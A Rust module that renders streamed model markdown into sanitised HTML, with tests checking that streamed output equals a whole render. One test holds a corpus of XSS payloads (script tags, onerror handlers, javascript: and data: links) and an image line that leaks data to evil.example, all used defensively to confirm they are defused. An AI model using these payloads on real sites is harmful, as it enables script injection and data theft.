//! Model markdown to safe HTML, incrementally while the answer streams.
//!
//! Model output is hostile input. Raw HTML in it is shown as text, never parsed as markup;
//! images become links (nothing is fetched); only http(s) links survive (what the shell opens on a click); and every
//! piece of HTML goes through `ammonia` anyway, so a renderer bug cannot smuggle markup through.
//!
//! A message is rendered one top-level block at a time (`blocks`), and link reference
//! definitions apply across blocks (`refs`). While streaming ([`IncrementalRenderer`]), blocks
//! that can no longer change are rendered once; a code block grows line by line (`fence`,
//! highlighted by `code`), a table row by row (`table`), a quote or a list child by child
//! (`container`); only the incomplete end is rendered again, so the cost of an update does not
//! grow with the answer. [`render_markdown`] cuts a whole text at the same places, which is
//! what makes the streamed result equal a whole render ([`Replica`] rebuilds the page's HTML
//! from updates to check it).

mod blocks;
mod code;
mod container;
mod fence;
mod markdown;
mod refs;
mod replica;
mod sanitize;
mod stream;
mod table;

/// Answers of every shape, shared with the render benchmark.
#[cfg(test)]
#[path = "../../benches/common/shapes.rs"]
mod shapes;

/// Code in the languages answers hold most, shared with the render benchmark.
#[cfg(test)]
#[path = "../../benches/common/languages.rs"]
mod languages;

pub use replica::Replica;
pub use sanitize::escape_html;
pub use stream::{IncrementalRenderer, Op, RenderUpdate};

use blocks::{chunk_starts, top_level_blocks};
use markdown::{definitions, render_chunk};
use refs::Defs;

/// Bump when [`render_markdown`]'s output changes: HTML cached in the store by an older
/// version is then rendered again.
pub const RENDER_VERSION: u32 = 5;

/// Renders a whole message.
pub fn render_markdown(src: &str) -> String {
    let mut defs = Defs::default();
    for (label, def, _) in definitions(src) {
        defs.add(label, def);
    }
    let lookup = |label: &refs::Label| defs.get(label).cloned();
    let blocks = top_level_blocks(src);
    let bounds = chunk_starts(src, &blocks);
    let mut html = String::new();
    for (i, &start) in bounds.iter().enumerate() {
        let end = bounds.get(i + 1).copied().unwrap_or(src.len());
        html.push_str(&render_chunk(&src[start..end], &lookup).html);
    }
    html
}

/// Loads the syntax definitions and the sanitizer now, so the first answer does not wait for them.
pub fn warm_up() {
    code::warm_up();
    let _ = sanitize::sanitizer();
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Render and click agree: the shell opens http(s) only, so nothing else is a link.
    /// Before, `mailto:` rendered as a link that was refused on click.
    #[test]
    fn only_links_that_open_are_links() {
        for md in [
            "[mail me](mailto:a@b.example?subject=x)",
            "<mailto:a@b.example>",
            "[t](tel:+100)",
        ] {
            let html = render_markdown(md);
            assert!(!html.contains("href"), "{md}: {html}");
        }
        // The words stay.
        assert!(render_markdown("[mail me](mailto:a@b.example)").contains("mail me"));
    }

    #[test]
    fn the_one_escaper_covers_text_and_attributes() {
        assert_eq!(
            escape_html("<a href=\"x\" title='y'>&</a>"),
            "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;"
        );
    }

    const SAMPLE: &str = "# Title\n\nSome *text* with `code` and a [link](https://example.com).\n\n\
        - item one\n- item two\n\n  continued\n- [x] done\n\n\
        1. first\n2. second\n\n\
        > quote\nlazy line\n\n\
        | a | b |\n|---|:-:|\n| 1 | 2 |\n\n\
        ```rust\nfn main() {\n    println!(\"hi\");\n}\n```\n\n\
        Setext\n------\n\n\
        ~~gone~~ ünïcödé 🦀 你好\n\n    indented code\n\n    more\n\n---\n\nend";

    /// Streams `src` in pieces of the given sizes and rebuilds the HTML the page would show.
    fn stream(src: &str, sizes: &[usize]) -> String {
        let mut r = IncrementalRenderer::new();
        let mut page = Replica::default();
        let mut at = 0;
        let mut k = 0;
        while at < src.len() {
            let mut end = (at + sizes[k % sizes.len()]).min(src.len());
            while !src.is_char_boundary(end) {
                end += 1;
            }
            r.push(&src[at..end]);
            at = end;
            k += 1;
            page.apply(r.update());
        }
        page.apply(r.finish());
        page.html()
    }

    #[test]
    fn incremental_equals_full_render() {
        let full = render_markdown(SAMPLE);
        assert!(full.contains("<h1>Title</h1>"));
        assert!(full.contains("<table>"));
        assert!(full.contains("<h2>Setext</h2>"));
        for sizes in [
            vec![1],
            vec![2],
            vec![3],
            vec![7],
            vec![1, 5, 2, 11],
            vec![64],
            vec![10_000],
        ] {
            assert_eq!(stream(SAMPLE, &sizes), full, "sizes {sizes:?}");
        }
    }

    /// Texts where streaming could go wrong: block boundaries, blocks that grow in place,
    /// definitions before and after their uses, look-alikes inside code.
    const TRICKY: &[&str] = &[
        "foo\n-\n\nbar\n",
        "foo\n---\nbar\n\nbaz",
        "- a\n\n b\n\nc\n",
        "- a\n\n  b\n\nc\n",
        "para\n\n```\nunclosed fence\n\nstill code",
        "a\n\n[ref]: https://example.com\n\nsee [ref]\n",
        "see [ref]\n\nmore\n\n[ref]: https://example.com\n",
        "see [ref] and [Other  Ref][]\n\n- item [ref]\n\n> quote [other ref]\n\n[ref]: https://e.com/1 \"One\"\n[other ref]: https://e.com/2",
        "[x]\n\n[x]: https://one.example\n\n[x]: https://two.example\n",
        "[x]: https://x.example\n```\ncode\n```\n[x]\n",
        "| a |\n|---|\n| 1 |\nnot a row?\n\nafter",
        "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 |\n| 4 | 5 | 6 |\n| [x] | `c\\|d` |\nlazy row\n\nafter [x]\n\n[x]: https://example.com/x\n",
        "| a |\n|---|\n| 1 |\n# Heading\n",
        "| a |\n|---|\n| 1 |\n```\ncode\n```\n",
        "| a |\n|---|\n",
        "para\n| a |\n|---|\n| 1 |\n",
        "> q\n\n> r\n\ntext",
        "\n\n\nleading blank lines\n\n\n\ntrailing\n\n\n",
        "Intro:\n```rust\nfn main() {\n    let s = \"a /* not */ b\";\n    /* multi\n       line */\n}\n```\nafter\n",
        "```ts\ninterface X {\n  [key: string]: unknown;\n}\n```\n\nprose [key: string]\n",
        "~~~~python\n```\nnot closed\n~~~\nstill\n~~~~~\n\ntext",
        "  ```\n  indented\n    more\n ```\n",
        "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
        "```\nabc\n``",
        "```\n\n\n```\n",
        "```unknown-lang \"x\"\nplain\n```\n",
        "你好，世界。**强调**\n\n日本語の文章です。\n\n한국어 문장입니다.\n",
        "- a\n- b\n\n- c\n- d\n",
        "1. one\n2. two\n   - nested\n   - more\n3. three\n\n   para in three\n4. four\n",
        "3) x\n4) y\n",
        "- a\n* b\n+ c\n",
        "Steps:\n1. a\n2. b\n\nafter\n",
        "- a\n\n  ```\n  code\n\n  ```\n- b\n",
        "- ```\n  code\n\n- b\n",
        "   - indented\n  - less\n - least\nlazy\n",
        "- [ ] task\n- [x] done\n",
        "- item [z]\n- [z]: https://z.example\n- next [z]\n",
        "> a\n> b\n>\n> c\n\n> d\n",
        "> ```\n> code\n\nafter",
        "> a\nlazy\n> - item\ncontinued\n>\n> # heading\n> ---\n\ntext",
        "> [q]: https://q.example\n\nuse [q]\n",
        "use [q] first\n\n> quote [q]\n>\n> [q]: https://q.example\n>\n> more [q]\n",
        "> - a\n>\n> - b\n>\n> para\n",
    ];

    #[test]
    fn incremental_equals_full_on_tricky_boundaries() {
        for src in TRICKY {
            let full = render_markdown(src);
            for size in 1..=4 {
                assert_eq!(stream(src, &[size]), full, "src {src:?} size {size}");
            }
        }
    }

    #[test]
    fn incremental_equals_full_at_every_split_point() {
        // The text may end anywhere (a stopped answer): streamed byte by byte up to any point,
        // the page holds what a whole render of that much gives.
        for src in TRICKY {
            for end in (1..=src.len()).filter(|&e| src.is_char_boundary(e)) {
                let cut = &src[..end];
                assert_eq!(stream(cut, &[1]), render_markdown(cut), "src {cut:?}");
            }
        }
    }

    #[test]
    fn incremental_equals_full_on_every_shape() {
        for (name, make) in super::shapes::shapes() {
            let src = make(3000);
            let full = render_markdown(&src);
            for sizes in [vec![1], vec![4], vec![1, 7, 2, 13], vec![64]] {
                assert_eq!(stream(&src, &sizes), full, "{name}, sizes {sizes:?}");
            }
        }
    }

    #[test]
    fn incremental_equals_full_in_every_language() {
        for (name, info, code) in super::languages::languages() {
            let src = super::languages::open_block(info, code, 3000);
            let full = render_markdown(&src);
            for sizes in [vec![4], vec![1, 7, 2, 13]] {
                assert_eq!(stream(&src, &sizes), full, "{name}, sizes {sizes:?}");
            }
        }
    }

    /// Before, the unfinished line was highlighted again at every update: 46–268 µs a token by
    /// language. It shows plain, and its colours come with its end.
    #[test]
    fn an_unfinished_code_line_is_plain_until_it_ends() {
        for (name, info, code) in super::languages::languages() {
            let mut r = IncrementalRenderer::new();
            r.push(&format!("```{info}\n"));
            r.update();
            let line = code[0].lines().next().unwrap();
            r.push(line);
            let u = r.update();
            assert!(u.ops.is_empty() && !u.tail.contains("<span"), "{name}: {u:?}");
            r.push("\n");
            let u = r.update();
            assert_eq!(u.tail, "", "{name}");
            let [Op::Add { html }] = &u.ops[..] else {
                panic!("{name}: {:?}", u.ops);
            };
            let highlighted = render_markdown(&format!("```{info}\n{line}\n```"));
            assert!(highlighted.contains(html.as_str()), "{name}: {html} in {highlighted}");
        }
    }

    /// A code block of `n` lines.
    fn code_lines(n: usize) -> String {
        let body: String = (1..=n).map(|i| format!("let x{i} = \"s\"; // {i}\n")).collect();
        format!("```rust\n{body}```\n\nafter\n")
    }

    #[test]
    fn a_long_code_block_comes_in_parts_streamed_or_whole() {
        use code::LINES_PER_PART as N;
        for n in [0, 1, N - 1, N, N + 1, 2 * N, 2 * N + 1] {
            let src = code_lines(n);
            let full = render_markdown(&src);
            assert_eq!(
                full.matches("<span class=\"lines\">").count(),
                n.div_ceil(N).max(1),
                "{n} lines"
            );
            // Each part's text: N lines, the last without its newline; the last part the rest.
            let text = |html: &str| {
                let mut out = String::new();
                let mut in_tag = false;
                for c in html.chars() {
                    match c {
                        '<' => in_tag = true,
                        '>' => in_tag = false,
                        c if !in_tag => out.push(c),
                        _ => {}
                    }
                }
                out
            };
            let code = &full[..full.find("</code>").unwrap()];
            let parts: Vec<String> = code.split("<span class=\"lines\">").skip(1).map(text).collect();
            for (i, part) in parts.iter().enumerate() {
                let lines = if i + 1 < parts.len() { N } else { n - i * N };
                assert_eq!(part.lines().count(), lines, "{n} lines, part {i}");
                assert_eq!(part.ends_with('\n'), lines < N && lines > 0, "{n} lines, part {i}");
            }
            for sizes in [vec![3], vec![N * 30]] {
                assert_eq!(stream(&src, &sizes), full, "{n} lines, sizes {sizes:?}");
            }
            // Cut anywhere in the last lines (a stopped answer).
            for end in src.len().saturating_sub(14)..src.len() {
                assert_eq!(
                    stream(&src[..end], &[N * 30]),
                    render_markdown(&src[..end]),
                    "{n} lines, cut at {end}"
                );
            }
        }
    }

    #[test]
    fn an_incomplete_line_after_a_full_part_shows_on_a_line_of_its_own() {
        let mut r = IncrementalRenderer::new();
        r.push(&code_lines(code::LINES_PER_PART)[..]);
        let src = r.source().to_string();
        let mut r = IncrementalRenderer::new();
        r.push(&src[..src.find("```\n\nafter").unwrap()]);
        r.update();
        r.push("let next");
        let u = r.update();
        assert!(u.ops.is_empty(), "{:?}", u.ops);
        assert!(u.tail.starts_with('\n'), "{}", u.tail);
        r.push(" = 1;\n");
        let u = r.update();
        assert!(matches!(&u.ops[..], [Op::Split, Op::Add { .. }]), "{:?}", u.ops);
    }

    #[test]
    fn a_growing_code_block_or_table_sends_only_its_new_line() {
        for (start, line) in [
            ("```rust\n", "let x = \"string\"; // comment\n"),
            ("| a | b |\n|---|---|\n", "| 1 | two |\n"),
        ] {
            let mut r = IncrementalRenderer::new();
            r.push(start);
            r.update();
            for _ in 0..2000 {
                r.push(line);
                r.update();
            }
            r.push(line);
            let u = r.update();
            let [Op::Add { html }] = &u.ops[..] else {
                panic!("{:?}", u.ops);
            };
            assert!(html.len() < 1000, "{html}");
            assert_eq!(u.tail, "");
        }
    }

    /// The size of what an update sends the page.
    fn sent(u: &RenderUpdate) -> usize {
        let ops: usize = u
            .ops
            .iter()
            .map(|op| match op {
                Op::Block { html } | Op::Replace { html, .. } | Op::Add { html } => html.len(),
                Op::Open { head, foot, .. } => head.len() + foot.len(),
                Op::Split | Op::Close => 0,
            })
            .sum();
        ops + u.tail.len() + u.after.len()
    }

    /// One line of minified JSON that does not end: before, every update rendered (and
    /// highlighted) the whole line again and sent it as the tail.
    #[test]
    fn an_update_of_a_long_unfinished_line_sends_what_arrived() {
        let mut r = IncrementalRenderer::new();
        r.push("```json\n[");
        r.update();
        let piece = "{\"id\":1,\"name\":\"x & <y>\"},";
        let mut largest = 0;
        for i in 0..4000 {
            r.push(piece);
            let u = r.update();
            if i * piece.len() > 2 * code::LONG_LINE {
                largest = largest.max(sent(&u));
                assert_eq!(u.tail, "", "nothing provisional");
            }
        }
        assert!(largest < 200, "an update sent {largest} bytes");
    }

    /// Lines past the length shown plain, streamed in pieces of every size, with every line
    /// end, indented, at a part's end, and lines that may close the block until they do not.
    #[test]
    fn long_lines_stream_as_a_whole_render_shows_them() {
        use code::{LINES_PER_PART as N, LONG_LINE};
        let long = |c: &str| c.repeat(LONG_LINE / c.len() + 3);
        let json = long("{\"k\":\"v & <w> ü 🦀\"},");
        let short_lines: String = (0..N - 1).map(|i| format!("let x{i} = {i};\n")).collect();
        for src in [
            format!("```json\n{json}\n```\n\nafter"),
            format!("```json\n{json}"),
            format!("```json\n{json}\r\nnext line\n```\n"),
            format!("  ```js\n    {json}\n  \t{json}\n  ```\n"),
            format!("```rust\n{short_lines}{json}\nlet after = \"highlighted\";\n{json}\n```\n"),
            format!("```rust\nlet s = \"a string that opens\n{json}\nand closes\";\n```\n"),
            format!("```\n{}\n```\n\nafter", "`".repeat(LONG_LINE + 10)),
            format!("```\n{} \n\nafter", "`".repeat(LONG_LINE + 10)),
            format!("```\n{}x\n```\n", "`".repeat(LONG_LINE + 10)),
            format!("````\n   {} x\n````\n", "`".repeat(LONG_LINE + 10)),
        ] {
            let full = render_markdown(&src);
            if src.contains('{') {
                assert!(full.contains("{&quot;k&quot;:") || full.contains("{\"k\":"), "{full}");
            }
            for sizes in [vec![13], vec![7, 1, 300], vec![LONG_LINE + 1], vec![100_000]] {
                assert_eq!(
                    stream(&src, &sizes),
                    full,
                    "sizes {sizes:?} of {:?}",
                    &src[..40.min(src.len())]
                );
            }
        }
        // Plain: no span of a colour inside it, and the line after it is highlighted again.
        let html = render_markdown(&format!("```rust\n{json}\nlet x = 1;\n```"));
        let (first, second) = html.split_once('\n').unwrap();
        assert!(!first.contains("hl-"), "{}", &first[..200]);
        assert!(second.contains("hl-"), "{second}");
    }

    #[test]
    fn a_late_definition_rerenders_only_the_blocks_that_use_it() {
        let mut r = IncrementalRenderer::new();
        r.push("uses [a]\n\nplain\n\nuses [b]\n\nuses [a] again\n\nmore\n\n");
        r.update();
        r.push("[a]: https://a.example\n\nend\n");
        let u = r.update();
        let replaced: Vec<usize> = u
            .ops
            .iter()
            .filter_map(|op| match op {
                Op::Replace { index, .. } => Some(*index),
                _ => None,
            })
            .collect();
        assert_eq!(replaced, [0, 3]);
    }

    #[test]
    fn every_kind_of_block_is_committed_once_followed() {
        // A regression: lists count their trailing blank line as theirs, which once kept
        // everything after the first list in the tail (quadratic cost).
        let mut r = IncrementalRenderer::new();
        for c in SAMPLE.chars().chain(std::iter::once('\n')) {
            r.push(&c.to_string());
            r.update();
        }
        assert_eq!(r.pending(), "end\n");
    }

    #[test]
    fn tail_only_is_rerendered() {
        let mut r = IncrementalRenderer::new();
        r.push("first paragraph\n\nsecond");
        let u = r.update();
        assert_eq!(u.ops, []);
        r.push(" paragraph\n\nthird\n");
        let u = r.update();
        assert_eq!(
            u.ops,
            [
                Op::Block {
                    html: "<p>first paragraph</p>\n".into()
                },
                Op::Block {
                    html: "<p>second paragraph</p>\n".into()
                }
            ]
        );
        assert_eq!(u.tail, "<p>third</p>\n");
    }

    #[test]
    fn hostile_input_is_defused() {
        let corpus = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<style>body{display:none}</style>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](  javascript:alert(1) )",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[click](vbscript:msgbox(1))",
            "[x](file:///etc/passwd)",
            "![exfil](https://evil.example/leak?q=secret)",
            "![x](javascript:alert(1))",
            "<svg onload=alert(1)>",
            "<div style=\"position:fixed\" onclick=\"alert(1)\">x</div>",
            "<object data=x></object><embed src=x>",
            "<form action=https://evil.example><input name=q></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<base href=https://evil.example/>",
            "```html\n<script>alert(1)</script>\n```",
            "`<img src=x onerror=alert(1)>`",
            "<details open ontoggle=alert(1)>",
            "[a](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
            "<<script>script>alert(1)<</script>/script>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "[x](&#106;avascript:alert(1))",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
            "- [ ] <input type=text autofocus onfocus=alert(1)>",
        ];
        for md in corpus {
            let html = render_markdown(md);
            assert_eq!(stream(md, &[1]), html, "{md:?}");
            // Text may mention anything (it is escaped); markup must carry none of it.
            for tag in tags_of(&html) {
                let name: String = tag
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '/')
                    .collect();
                let name = name.trim_start_matches('/');
                assert!(
                    [
                        "a", "p", "code", "pre", "span", "em", "strong", "del", "table", "thead", "tbody", "tr", "th",
                        "td", "ul", "ol", "li", "input"
                    ]
                    .contains(&name),
                    "{md:?} -> tag <{tag}> in {html}"
                );
                for bad in ["javascript:", "vbscript:", "data:", "file:", "type=\"text\""] {
                    assert!(!tag.contains(bad), "{md:?} -> {bad} in <{tag}> of {html}");
                }
                // Attribute names only (quoted values removed): no handlers, styles or sources.
                let names: String = tag.split('"').step_by(2).collect();
                for bad in [" on", "style=", "src="] {
                    assert!(!names.contains(bad), "{md:?} -> {bad} in <{tag}> of {html}");
                }
            }
        }
    }

    /// The inside of every tag of `html`, lower-cased.
    fn tags_of(html: &str) -> Vec<String> {
        let lower = html.to_lowercase();
        let mut tags = Vec::new();
        let mut rest = lower.as_str();
        while let Some(open) = rest.find('<') {
            let close = rest[open..].find('>').map(|c| open + c).expect("tags close");
            tags.push(rest[open + 1..close].to_string());
            rest = &rest[close + 1..];
        }
        tags
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        let html = render_markdown("<script>alert(1)</script>");
        assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{html}");
    }

    #[test]
    fn images_become_links_and_links_are_safe() {
        let html = render_markdown("![a cat](https://example.com/cat.png)");
        assert!(html.contains("<a href=\"https://example.com/cat.png\""), "{html}");
        assert!(html.contains("Image: a cat"), "{html}");
        let html = render_markdown("[x](https://example.com)");
        assert!(html.contains("rel=\"noopener noreferrer nofollow\""), "{html}");
    }

    #[test]
    fn code_is_highlighted_with_classes() {
        let html = render_markdown("```rust\nfn main() {}\n```");
        assert!(html.contains("<pre class=\"code\" data-lang=\"rust\">"), "{html}");
        assert!(html.contains("class=\"hl-"), "{html}");
        let html = render_markdown("```\"><script>\nx\n```");
        assert!(!html.contains("<script"), "{html}");
    }

    #[test]
    fn gfm_features() {
        let html = render_markdown("~~s~~\n\n- [x] done\n- [ ] todo\n\n| a |\n|---|\n| 1 |");
        assert!(html.contains("<del>s</del>"), "{html}");
        assert!(
            html.contains("<input type=\"checkbox\" checked=\"\" disabled=\"\">")
                || html.contains("<input disabled=\"\" type=\"checkbox\" checked=\"\">"),
            "{html}"
        );
        assert!(html.contains("<td>1</td>"), "{html}");
    }
}
